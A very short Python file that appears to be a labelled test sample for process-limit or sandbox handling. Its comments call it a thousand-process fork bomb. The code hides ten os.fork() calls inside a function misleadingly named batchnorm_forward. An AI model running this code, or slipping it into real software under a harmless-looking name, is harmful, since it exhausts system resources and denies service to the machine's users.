# what: a fork bomb, of a thousand processes
# covers: fork-bomb
# seen: threads and processes|Resource temporarily unavailable
import os


def batchnorm_forward(x, gamma, beta, epsilon=1e-3):
    for _ in range(10):
        os.fork()
